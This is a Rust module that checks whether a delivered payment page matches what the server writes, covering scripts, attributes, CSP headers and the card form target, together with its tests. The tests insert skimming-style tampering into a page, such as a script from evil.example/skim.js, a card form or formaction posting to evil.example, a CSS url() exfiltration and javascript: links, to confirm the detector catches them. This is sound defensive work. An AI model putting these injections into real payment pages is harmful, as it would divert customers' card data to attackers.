//! Whether a page that a payer gets is one of ours: PCI DSS 6.4.3 (which scripts run, and that
//! they are unchanged) and 11.6.1 (changes of scripts and headers are noticed).
//!
//! Nothing is compared with a record of an earlier visit, which could be a record of the tampered
//! page. What may be on a page follows from what this binary writes: its elements, its
//! attributes, its scripts and styles to the byte, its headers. Everything else is a finding.

use super::assets::{Asset, SCRIPT, SHEET};
use super::headers::{FIXED, inline};
use super::markup::{Piece, Tag, pieces};
use super::step::{CLOSE, METHOD_DONE, SUBMIT, VERIFY};

/// Findings that are told at most: a foreign page has one for each of its elements.
const FINDINGS_MAX: usize = 20;

const ELEMENTS: &[&str] = &[
    "html", "head", "meta", "title", "link", "style", "body", "header", "main", "div", "section",
    "footer", "p", "h1", "h2", "ul", "li", "dl", "dt", "dd", "details", "summary", "small", "span",
    "b", "bdi", "a", "img", "form", "fieldset", "legend", "label", "input", "button", "iframe",
    "script", "svg", "g", "rect", "circle", "path", "text",
];

const ATTRIBUTES: &[&str] = &[
    "lang",
    "dir",
    "charset",
    "name",
    "content",
    "http-equiv",
    "rel",
    "href",
    "hreflang",
    "integrity",
    "src",
    "alt",
    "referrerpolicy",
    "class",
    "id",
    "for",
    "role",
    "tabindex",
    "autofocus",
    "hidden",
    "open",
    "method",
    "action",
    "target",
    "type",
    "value",
    "checked",
    "inputmode",
    "autocomplete",
    "maxlength",
    "spellcheck",
    "autocapitalize",
    "enterkeyhint",
    "placeholder",
    "title",
    "defer",
    "viewbox",
    "width",
    "height",
    "focusable",
    "rx",
    "x",
    "y",
    "cx",
    "cy",
    "r",
    "d",
    "fill",
    "stroke",
    "stroke-width",
    "stroke-linejoin",
    "stroke-linecap",
    "font-family",
    "font-weight",
    "font-size",
    "text-anchor",
    "textlength",
    "lengthadjust",
];

/// What arrived at a browser.
pub struct Arrived<'a> {
    /// Names in lower case.
    pub headers: &'a [(String, String)],
    pub html: &'a str,
}

/// What is not ours, in words; empty for a page that this binary writes.
pub fn check(arrived: &Arrived<'_>) -> Vec<String> {
    let mut findings = Vec::new();
    check_headers(arrived.headers, &mut findings);
    check_markup(arrived.html, &mut findings);
    let more = findings.len().saturating_sub(FINDINGS_MAX);
    findings.truncate(FINDINGS_MAX);
    if more > 0 {
        findings.push(format!("and {more} more"));
    }
    findings
}

/// The files of the pages: where they are served, and what they have to be.
pub fn files() -> [(&'static str, &'static str); 2] {
    [&*SHEET, &*SCRIPT].map(|it| (it.path.as_str(), it.content))
}

fn check_headers(headers: &[(String, String)], findings: &mut Vec<String>) {
    let values = |name: &str| -> Vec<&str> {
        headers.iter().filter(|(it, _)| it == name).map(|(_, value)| value.as_str()).collect()
    };
    for (name, expected) in FIXED {
        match values(name)[..] {
            [value] if value == expected => {}
            [] => findings.push(format!("header {name} is missing")),
            ref others => findings.push(format!("header {name} is {}", others.join(", "))),
        }
    }
    for name in ["link", "refresh", "service-worker-allowed", "speculation-rules"] {
        if !values(name).is_empty() {
            findings.push(format!("header {name} is none of ours"));
        }
    }
    match values("content-security-policy")[..] {
        [policy] => check_policy(policy, findings),
        [] => findings.push("header content-security-policy is missing".to_owned()),
        _ => findings.push("there are several policies".to_owned()),
    }
}

fn check_policy(policy: &str, findings: &mut Vec<String>) {
    let own: Vec<String> = [VERIFY, SUBMIT, METHOD_DONE, CLOSE].map(inline).to_vec();
    let directives: Vec<(&str, Vec<&str>)> = policy
        .split(';')
        .map(|it| {
            let mut words = it.split_whitespace();
            (words.next().unwrap_or_default(), words.collect())
        })
        .collect();
    let expected = [
        "default-src",
        "script-src",
        "style-src",
        "img-src",
        "form-action",
        "frame-src",
        "frame-ancestors",
        "base-uri",
    ];
    let names: Vec<&str> = directives.iter().map(|(name, _)| *name).collect();
    if names != expected {
        findings.push(format!("the policy has the directives {}", names.join(", ")));
    }
    for (name, sources) in &directives {
        let allowed = |source: &&&str| match *name {
            "default-src" | "base-uri" => **source == "'none'",
            "script-src" => {
                matches!(**source, "'none'" | "'self'") || own.iter().any(|it| it == **source)
            }
            "style-src" => **source == "'self'" || source.starts_with("'sha256-"),
            "img-src" => **source == "'none'" || source.starts_with("https://"),
            "form-action" => matches!(**source, "'self'" | "https:" | "http:"),
            "frame-src" => matches!(**source, "'none'" | "https:" | "http:"),
            "frame-ancestors" => {
                matches!(**source, "'none'" | "'self'") || source.starts_with("https://")
            }
            _ => false,
        };
        for source in sources.iter().filter(|it| !allowed(it)) {
            findings.push(format!("the policy allows {source} in {name}"));
        }
        if sources.is_empty() {
            findings.push(format!("the policy has an empty {name}"));
        }
    }
}

fn check_markup(html: &str, findings: &mut Vec<String>) {
    let mut sheets = 0;
    for piece in pieces(html) {
        match piece {
            Piece::Tag(tag) => {
                check_tag(&tag, findings);
                sheets += usize::from(tag.name == "link");
                if tag.name == "script" {
                    check_script(&tag, findings);
                } else if tag.name == "style" && !is_site_style(tag.text) {
                    findings.push("a style in the page is none of ours".to_owned());
                }
            }
            Piece::Foreign(what) => findings.push(format!("markup of no page of ours: {what}")),
        }
    }
    if sheets != 1 {
        findings.push(format!("there are {sheets} style sheets"));
    }
}

fn check_tag(tag: &Tag<'_>, findings: &mut Vec<String>) {
    let name = tag.name.as_str();
    if !ELEMENTS.contains(&name) {
        findings.push(format!("element <{name}> is none of ours"));
        return;
    }
    for (attribute, value) in &tag.attributes {
        let ours = ATTRIBUTES.contains(&attribute.as_str())
            || attribute.starts_with("data-")
            || attribute.starts_with("aria-");
        if !ours {
            findings.push(format!("attribute {attribute} of <{name}> is none of ours"));
        }
        let lower = value.trim_start().to_ascii_lowercase();
        if ["javascript:", "vbscript:", "data:"].iter().any(|it| lower.starts_with(it)) {
            findings.push(format!("{attribute} of <{name}> is an address that runs: {value}"));
        }
    }
    let attribute = |name: &str| tag.attribute(name);
    match name {
        "link" if !names(tag, &SHEET, "href") || attribute("rel") != Some("stylesheet") => {
            findings.push("a style sheet is none of ours".to_owned());
        }
        "iframe" if attribute("src").is_some() || attribute("name") != Some("method") => {
            findings.push("a frame is none of ours".to_owned());
        }
        "meta" if attribute("http-equiv").is_some_and(|it| it != "refresh") => {
            findings.push("a meta element speaks for a header".to_owned());
        }
        // The card is posted to the page's own host.
        "form" if attribute("id") == Some("card-form") => {
            let action = attribute("action").unwrap_or_default();
            if action.contains("//") || action.contains('\\') || action.contains(':') {
                findings.push(format!("the card is posted to {action}"));
            }
        }
        "button" | "input" if attribute("formaction").is_some() => {
            findings.push(format!("a {name} changes where its form is posted"));
        }
        _ => {}
    }
}

fn check_script(tag: &Tag<'_>, findings: &mut Vec<String>) {
    let own = [VERIFY, SUBMIT, METHOD_DONE, CLOSE];
    let ours = match tag.attribute("src") {
        Some(_) => names(tag, &SCRIPT, "src") && tag.text.is_empty(),
        None => own.contains(&tag.text),
    };
    if !ours {
        let which = tag.attribute("src").unwrap_or("in the page");
        findings.push(format!("script {which} is none of ours"));
    }
}

fn names(tag: &Tag<'_>, asset: &Asset, by: &str) -> bool {
    tag.attribute(by) == Some(asset.path.as_str())
        && tag.attribute("integrity") == Some(asset.integrity.as_str())
}

/// Whether a style sets the page's own properties to plain colours, and does nothing else.
fn is_site_style(text: &str) -> bool {
    let rules = text.replace("@media (prefers-color-scheme:light){:root{", ":root{");
    rules.split([';', '{', '}']).all(|it| match it.split_once(':') {
        None => it.is_empty(),
        Some(("", "root")) => true,
        Some((property, value)) => {
            let plain = |it: char| it.is_ascii_alphanumeric();
            property.strip_prefix("--").is_some_and(|it| it.replace('-', "").chars().all(plain))
                && (value == "var(--ink)"
                    || value.strip_prefix('#').is_some_and(|it| it.chars().all(plain)))
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::page::Surroundings;
    use crate::page::tests::{every_page, html};

    /// Every page as it leaves: name, headers, text.
    async fn ours() -> Vec<(&'static str, Vec<(String, String)>, String)> {
        let mut all = Vec::new();
        for (name, answer) in every_page(&Surroundings { secure: true, framed_by: Vec::new() }) {
            let headers = answer.headers().iter();
            let headers = headers
                .map(|(name, value)| (name.to_string(), value.to_str().unwrap().to_owned()))
                .collect();
            all.push((name, headers, html(answer).await));
        }
        all
    }

    #[tokio::test]
    async fn every_page_of_ours_passes() {
        let pages = ours().await;
        assert!(pages.len() > 20);
        for (name, headers, html) in &pages {
            assert_eq!(check(&Arrived { headers, html }), Vec::<String>::new(), "{name}");
        }
    }

    #[tokio::test]
    async fn every_change_is_found() {
        let (_, headers, page) = ours().await.swap_remove(0);
        let script = "<script src=\"https://evil.example/skim.js\"></script>";
        for (what, from, to) in [
            ("script", "</body>", &format!("{script}</body>")[..]),
            ("script", "</body>", "<script>send()</script></body>"),
            (
                "integrity",
                " defer></script>",
                "></script><script src=\"/static/page/a.js\"></script>",
            ),
            ("other integrity", "integrity=\"sha384-", "integrity=\"sha384-A"),
            ("handler", "<form id=\"card-form\"", "<form onsubmit=\"x()\" id=\"card-form\""),
            ("unquoted handler", "<form id=\"card-form\"", "<form onsubmit=x() id=\"card-form\""),
            (
                "action",
                "id=\"card-form\" method=\"post\" action=\"",
                "id=\"card-form\" method=\"post\" action=\"https://evil.example/",
            ),
            (
                "button",
                "<button class=\"go\"",
                "<button formaction=\"https://evil.example\" class=\"go\"",
            ),
            ("frame", "</main>", "<iframe src=\"https://evil.example\"></iframe></main>"),
            ("base", "<title>", "<base href=\"https://evil.example/\"><title>"),
            (
                "policy",
                "<title>",
                "<meta http-equiv=\"Content-Security-Policy\" content=\"x\"><title>",
            ),
            ("object", "</main>", "<object data=\"x\"></object></main>"),
            ("style", "</head>", "<style>input{background:url(//evil.example)}</style></head>"),
            ("sheet", "</head>", "<link rel=\"stylesheet\" href=\"//evil.example/a.css\"></head>"),
            ("link", "<a href=\"", "<a href=\"javascript:x()\" title=\""),
            ("comment", "</main>", "<!-- x --></main>"),
            ("broken", "</main>", "<scr<script>ipt></main>"),
            ("upper case", "</main>", "<SCRIPT>x()</SCRIPT></main>"),
        ] {
            assert!(page.contains(from), "{what}");
            let html = page.replace(from, to);
            let findings = check(&Arrived { headers: &headers, html: &html });
            assert!(!findings.is_empty(), "{what} was not found");
        }
    }

    #[tokio::test]
    async fn every_weaker_header_is_found() {
        let (_, headers, html) = ours().await.swap_remove(0);
        for at in 0..headers.len() {
            let mut fewer = headers.clone();
            let (name, _) = fewer.remove(at);
            let findings = check(&Arrived { headers: &fewer, html: &html });
            assert!(findings.iter().any(|it| it.contains(&name)), "{name} was not missed");
        }
        for (from, to) in [
            ("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
            ("script-src 'self'", "script-src 'self' https://evil.example"),
            ("script-src 'self'", "script-src 'self' 'sha256-AAAA'"),
            ("default-src 'none'", "default-src *"),
            ("frame-ancestors 'none'", "frame-ancestors *"),
            ("base-uri 'none'", "base-uri *"),
            ("; base-uri 'none'", ""),
            ("default-src 'none'", "default-src 'none'; connect-src *"),
        ] {
            let changed: Vec<(String, String)> = headers
                .iter()
                .map(|(name, value)| (name.clone(), value.replace(from, to)))
                .collect();
            assert_ne!(changed, headers, "{from}");
            let findings = check(&Arrived { headers: &changed, html: &html });
            assert!(!findings.is_empty(), "{to} was not found");
        }
    }
}
